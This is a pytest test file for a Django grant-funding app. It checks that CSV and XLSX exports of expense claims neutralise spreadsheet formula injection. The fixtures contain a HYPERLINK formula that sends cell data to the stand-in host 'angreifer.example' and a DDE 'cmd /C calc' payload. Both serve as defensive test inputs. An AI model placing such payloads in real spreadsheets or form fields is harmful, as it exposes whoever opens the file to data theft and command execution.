"""The bookkeeping export of expense claims (CSV, XLSX) with text that a spreadsheet program
would run as a formula: it arrives as text, the amounts stay numbers (issue 13, defect 6)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from leuchtfeuer.accounts import totp
from leuchtfeuer.funding import services
from leuchtfeuer.funding.models import ExpenseClaim
from leuchtfeuer.funding.tests.conftest import pdf

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://angreifer.example/?d="&A2&B2,"Beleg ansehen")'
PAYLOADS = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "＝1+1"]


@pytest.fixture
def claims(grant):
    line = grant.budget_lines.get(category="beratung", year=grant.call.first_year)
    made = []
    for number, description in enumerate(PAYLOADS, start=1):
        made.append(
            services.claim_submit(
                actor=grant.coordinator, line=line, amount=f"{number}00,50", description=description,
                cost_type=ExpenseClaim.CostType.CONSULTING, spent_on=date(line.year, 2, number), receipt=pdf(),
            )
        )  # fmt: skip
    ExpenseClaim.objects.filter(pk=made[0].pk).update(decision_note="-1+1")
    return made


@pytest.fixture
def office_client(client, user_factory):
    office = user_factory(is_programme_office=True)
    totp.activate(office, totp.generate_totp_secret())
    client.force_login(office)
    return client


def test_claims_csv_quotes_formulas_and_keeps_amounts(office_client, claims):
    text = office_client.get("/geschaeftsstelle/foerderung/mittelabrufe.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header, body = rows[0], rows[1:]
    description, amount, note = (header.index(c) for c in ("Beschreibung", "Betrag (EUR)", "Begründung"))
    by_description = {row[description]: row for row in body}
    assert set(by_description) == {"'" + payload for payload in PAYLOADS}
    assert sorted(row[amount] for row in body) == ["100,50", "200,50", "300,50", "400,50", "500,50"]
    assert by_description["'" + HYPERLINK][note] == "'-1+1"


def test_claims_xlsx_writes_text_as_text(office_client, claims):
    content = office_client.get("/geschaeftsstelle/foerderung/mittelabrufe.xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    description, amount, note = (header.index(c) for c in ("Beschreibung", "Betrag (EUR)", "Begründung"))
    rows = sorted(sheet.iter_rows(min_row=2), key=lambda row: row[amount].value)  # newest first → by amount
    assert [row[description].value for row in rows] == PAYLOADS  # the text as typed, no quote added
    assert all(row[description].data_type == "s" for row in rows)  # a string, not a formula ("f")
    assert all(row[description].quotePrefix for row in rows)  # stays text when edited in Excel
    assert (rows[0][note].value, rows[0][note].data_type) == ("-1+1", "s")
    assert [row[amount].value for row in rows] == [100.5, 200.5, 300.5, 400.5, 500.5]
    assert all(row[amount].data_type == "n" for row in rows)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")  # no formula at all
